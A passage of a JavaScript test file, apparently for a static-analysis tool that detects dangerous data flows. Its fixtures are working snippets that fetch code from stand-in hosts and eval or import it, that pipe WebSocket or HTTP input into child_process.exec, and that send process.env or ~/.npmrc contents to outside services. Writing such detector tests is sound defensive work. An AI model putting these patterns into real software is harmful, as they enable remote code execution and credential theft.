    'packed to dropped',
  ],
  [
    'a packed module that is written and loaded',
    "const fs=require('fs'),p=require('os').tmpdir()+'/x.js';fs.writeFileSync(p,atob('YWxlcnQoMSk='));require(p)",
    'packed to loaded',
  ],
  [
    'a download that is written and loaded by its URL',
    "import {writeFile} from 'fs/promises';import {pathToFileURL} from 'url';const f=require('os').tmpdir()+'/n.mjs';await writeFile(f,await (await fetch('https://c.example')).text());await import(pathToFileURL(f).href)",
    'remote to loaded',
  ],
  [
    'the environment in a report of errors',
    "const S=require('@sentry/node');S.setContext('e',process.env)",
    'environment to service',
  ],
  [
    'a row of a database',
    "const {Client}=require('pg');const c=new Client();c.query('insert into t values($1)',[JSON.stringify(process.env)])",
    'environment to service',
  ],
  [
    'what a callback of a request is given',
    "const request=require('request');request.get('https://c.example',(e,r,b)=>{eval(b)})",
    'remote to code',
  ],
  [
    'an event that is sent',
    "const es=new EventSource('https://c.example');es.onmessage=(m)=>eval(m.data)",
    'part of remote to code',
  ],
  [
    'a message that is a command',
    "const ws=new (require('ws'))('wss://c.example');ws.on('message',(m)=>require('child_process').exec(m.toString()))",
    'remote to process',
  ],
  [
    'a request that is a command',
    "require('http').createServer((q,s)=>{q.on('data',(d)=>require('child_process').exec(`${d}`))})",
    'request to process',
  ],
];

test.each(OTHER)('%s', (_, code, flow) => expect(flowsIn(code)).toContain(flow));

const STAYS: readonly Row[] = [
  [
    'another of the parts that another module takes out of what it is given',
    {
      'index.js': "const {post}=require('./post');READ;post({from:'me',text:'hello',key:k})",
      'post.js':
        "function* lines({from,text}){yield from;yield `${text}.`}exports.post=(mail)=>{const s=require('net').connect(25,'192.0.2.9');for(const line of lines(mail))s.write(line)}",
    },
  ],
  [
    'a list of another module of which nothing is called',
    {
      'index.js': "const {all}=require('./all');SEND«JSON.stringify(all.map((way)=>way.name))»",
      'all.js': "exports.all=[function two(){return require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')}]",
    },
  ],
  [
    'a tag of another module that only writes what it is told',
    {
      'index.js': "const {text}=require('./text');SEND«text`Set: ${'.env'}`»",
      'text.js':
        "exports.read=(f)=>require('fs').readFileSync(f,'utf8');exports.text=(parts,...names)=>parts.reduce((all,one,i)=>all+one+names[i],'')",
    },
  ],
  [
    'one key to its vendor',
    "fetch('https://api.vendor.example/',{headers:{authorization:`Bearer ${process.env.VENDOR_API_KEY}`}})",
  ],
  ['one variable that is looked for', 'const [,v]=Object.entries(process.env).find(([k])=>/^acme_/i.test(k));SEND«v»'],
  [
    'another command of a table',
    "const T={darwin:{bin:'security',args:['list-keychains']},linux:{bin:'ls',args:['-l']}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args).stdout»",
  ],
  [
    'a function of another module that sends something else',
    {
      'index.js': "const {up}=require('./up');require('fs/promises').readFile(process.env.HOME+'/.npmrc').then(up)",
      'up.js': "exports.up=(d,city='here')=>fetch('https://a.example',{body:city})",
    },
  ],
  [
    'a request that another thing was listened to before',
    "READ;const r=require('fs').createReadStream('./x').on('data',()=>{});require('https').request('https://a.example').on('error',()=>{}).end('x')",
  ],
  [
    'one variable through a Proxy',
    'const s=new Proxy(process.env,{get:(t,n)=>Reflect.get(t,n)});exports.f=n=>SEND«s[n]»',
  ],
  ['two settings taken from the environment', 'const {HOST,KEY}=process.env;fetch(HOST,{headers:{k:KEY}})'],
  ['a variable whose name the caller gives', 'exports.f=(n)=>fetch("https://a.example",{headers:{k:process.env[n]}})'],
  [
    'settings made from the environment, one used',
    'const c=Object.fromEntries(Object.entries(process.env));fetch(c.URL)',
  ],
  ['the environment for a child', "require('child_process').spawn('git',['status'],{env:{...process.env}})"],
  [
    'that of a program that fetches',
    "require('child_process').spawn('curl',['-O','https://a.example/x'],{env:process.env})",
  ],
  [
    'the same through a function that starts programs',
    "const {spawn}=require('child_process');const run=(f,a,o)=>spawn(f,a,{stdio:'inherit',...o});run('curl',['-O','https://a.example/x'],{env:{...process.env,CI:'1'}})",
  ],
  [
    'the same, without some of it',
    "const env=Object.fromEntries(Object.entries(process.env).filter(([k])=>!k.startsWith('npm_')));env.CI='1';require('child_process').execSync('wget https://a.example/x',{env})",
  ],
  [
    'that of a program that uploads a folder',
    "require('child_process').execSync('aws s3 sync dist s3://site',{env:process.env})",
  ],
  [
    'a key of a dotenv file',
    "const c=require('dotenv').parse(require('fs').readFileSync('.env'));fetch('https://a.example',{headers:{k:c.API_KEY}})",
  ],
  ['a file of the package', "SEND«require('fs').readFileSync(__dirname+'/query.graphql','utf8')»"],
  ['a question whether a file is there', "if(require('fs').existsSync(process.env.HOME+'/.npmrc'))SEND«'yes'»"],
  ['a comparison with the environment', 'SEND«String(x===process.env)»'],
  ['how many variables there are', 'SEND«String(Object.keys(process.env).length)»'],
  ['a public key', "SEND«require('fs').readFileSync(process.env.HOME+'/.ssh/id_rsa.pub')»"],
  [
    'a credential in another function of the same name',
    "function a(){const k=require('fs').readFileSync(process.env.HOME+'/.npmrc');return 1} function b(k){fetch('https://a.example',{body:k})} a();b('x')",
  ],
  [
    'what another method of the class reads',
    "class C{a(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')} b(d){return fetch('https://a.example',{body:d})}} new C().b('x')",
  ],
  [
    'an event of another name',
    "READ;const e=new (require('events'))();e.on('y',d=>fetch('https://a.example',{body:d}));e.emit('x',k)",
  ],
  [
    'what an async function waited for, and did not give back',
    `${AWAITER}function rd(){return __awaiter(this,void 0,void 0,function*(){yield check(require('fs').readFileSync(process.env.HOME+'/.npmrc'));return 1})} rd().then(d=>{SEND«d»})`,
  ],
  [
    'another private field',
    `${FIELDS}var _C_a,_C_b;class C{constructor(){_C_a.set(this,process.env);_C_b.set(this,1)} go(){SEND«JSON.stringify(__classPrivateFieldGet(this,_C_b,"f"))»}} _C_a=new WeakMap(),_C_b=new WeakMap();new C().go()`,
  ],
  [
    'another service of the same class',
    "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
  ],
  [
    'a function of another module that takes a part',
    {
      'index.js': "const {pick}=require('./util');SEND«JSON.stringify(pick(process.env))»",
      'util.js': 'exports.pick=(o)=>({url:o.WEATHER_URL,key:o.WEATHER_KEY})',
    },
  ],
  [
    'what a function of another module was given there',
    {
      'index.js': "const {log}=require('./util');SEND«log('x')»",
      'util.js':
        'exports.log=(t)=>String(t);console.log(exports.log(process.env));const {log}=exports;log(process.env)',
    },
  ],
  [
    'another place that another module names',
    {
      'index.js': "const c=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+c.own)»",
      'c.js': "module.exports={own:'/.weather/city',theirs:'/.npmrc'}",
    },
  ],
  [
    'another module of the table',
    '(()=>{var e={11:(e,t,r)=>{t.a=()=>process.env},12:(e,t,r)=>{t.a=()=>1}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{SEND«JSON.stringify(r(12).a())»})()})();',
  ],
  [
    'what lies elsewhere in an object that another module made',
    {
      'index.js': "const {store}=require('./store');require('./fill');SEND«JSON.stringify(store.city)»",
      'fill.js': "const {store}=require('./store');store.data={...process.env};store.city='x'",
      'store.js': 'exports.store={}',
    },
  ],
  [
    'what lies under another name in each of a list',
    "const found=[];function all(){for(const f of ['a','b'])found.push({name:f,body:require('fs').readFileSync(process.env.HOME+'/.npmrc')});return found}SEND«all().map((one)=>one.name).join()»",
  ],
  [
    'one variable of what lies under a name',
    'const all=[];all.push({env:process.env});for(const {env} of all){SEND«env.CITY»}',
  ],
  [
    'another part of a message',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',{env:process.env,at:1})",
      'w.js': "const bus=require('./bus');bus.on('boot',({at})=>{SEND«JSON.stringify(at)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'one variable of the environment that a worker is given',
    {
      'index.js': "const {Worker}=require('worker_threads');new Worker('./w.js',{workerData:{env:process.env}})",
      'w.js': "const {workerData}=require('worker_threads');SEND«workerData.env.WEATHER_URL»",
    },
  ],
  [
    'a file of data that also names others',
    `const{own}=JSON.parse('{"own":"settings.json","skip":[".npmrc",".netrc"]}');SEND«require('fs').readFileSync(process.env.HOME+'/'+own)»`,
  ],
  [
    'one export of a module of a bundle that also has another',
    'var require_a=__commonJS({"a.js"(exports,module){module.exports={env:process.env,city:"Rome"}}});var{city}=require_a();SEND«city»',
  ],
  [
    'what a container gives to the constructor of another class',
    {
      'index.js':
        'const s=require("./settings"),c=require("./cities");class Boot{constructor(settings){this.settings=settings}} _ts_decorate([_ts_metadata("design:paramtypes",[s.Settings])],Boot);class Report{constructor(settings){this.settings=settings} send(){SEND«this.settings.all()»}} _ts_decorate([_ts_metadata("design:paramtypes",[c.Cities])],Report)',
      'settings.js': 'class Settings{all(){return {...process.env}}} exports.Settings=Settings',
      'cities.js': 'class Cities{all(){return ["Rome"]}} exports.Cities=Cities',
    },
  ],
  [
    'files of a worker that is told what to leave out',
    {
      'index.js':
        "const {Worker}=require('worker_threads');new Worker('./w.js',{workerData:{root:process.cwd(),skip:['.ssh','.git']}})",
      'w.js':
        "const {workerData}=require('worker_threads');const fs=require('fs');for(const f of fs.readdirSync(workerData.root)){if(workerData.skip.includes(f))continue;SEND«fs.readFileSync(workerData.root+'/'+f)»}",
    },
  ],
  [
    'an event of another name in another module',
    {
      'index.js': "const bus=require('./bus');require('./w');bus.emit('boot',process.env)",
      'w.js': "const bus=require('./bus');bus.on('city',(c)=>{SEND«JSON.stringify(c)»})",
      'bus.js': "module.exports=new (require('events'))()",
    },
  ],
  [
    'another thing that a function of another module tells the one that it is given',
    {
      'index.js': "const {each}=require('./keys');each((name,text)=>{SEND«name»})",
      'keys.js':
        "exports.each=(fn)=>{for(const n of ['.npmrc'])fn(n,require('fs').readFileSync(process.env.HOME+'/'+n,'utf8'))}",
    },
  ],
  [
    'what a function gives back that told a secret to another one',
    {
      'index.js': "const {each}=require('./keys');const n=each((key)=>{});SEND«String(n)»",
      'keys.js':
        "exports.each=(fn)=>{let n=0;fn(require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8'));n++;return n}",
    },
  ],
  [
    'an instance that hides what it holds',
    "READ;class K{constructor(v){this.v=v} toString(){return '***'} go(){SEND«`${this}`»}} new K(k).go()",
  ],
  [
    'what is published under another topic',
    {
      'index.js': "const dc=require('diagnostics_channel');require('./up');dc.channel('a').publish({env:process.env})",
      'up.js':
        "const dc=require('diagnostics_channel');dc.subscribe('b',({env})=>{SEND«JSON.stringify(env)»});dc.channel('b').publish({env:{a:1}})",
    },
  ],
  [
    'another part of what a storage of another module holds',
    {
      'index.js':
        "const {ctx}=require('./ctx');require('./go');ctx.run({env:process.env,id:1},()=>require('./go').go())",
      'go.js': "const {ctx}=require('./ctx');exports.go=()=>{SEND«ctx.getStore().id»}",
      'ctx.js': "exports.ctx=new (require('async_hooks').AsyncLocalStorage)()",
    },
  ],
  [
    'another place among what a function of another module gives',
    {
      'index.js':
        "const fs=require('fs');const {begin}=require('./places');const s=begin();SEND«fs.readFileSync(s.home+'/'+s.log)»",
      'places.js': "exports.begin=()=>({home:require('os').homedir(),left:['.npmrc'],log:'acme.log'})",
    },
  ],
  [
    'another method of an object that another module exports',
    {
      'index.js': "const {host}=require('./parts');SEND«host.arch()»",
      'parts.js':
        "exports.host={arch(){return process.arch},tell(){return require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')}}",
    },
  ],
  [
    'a module that only has the same word',
    {
      'index.js': "const {up}=require('./b');up('x')",
      'b.js': "exports.up=d=>fetch('https://a.example',{body:d})",
      'a.js': "exports.up=()=>require('fs').readFileSync(process.env.HOME+'/.npmrc')",
    },
  ],
];

describe('what stays, or is a part that was asked for by name', () => {
  test.each(STAYS.map(([name, ...row]) => ({ name, row })))('$name', ({ row }) => {
    expect(flowsIn(...row).filter((flow) => LEFT_WHOLE.test(flow))).toEqual([]);
  });
});

test('what is given under another name is not taken', () => {
  expect(flowsIn('READ;function f({to,more}){SEND«more??to»}f({to:1,other:k})')).toEqual([]);
});
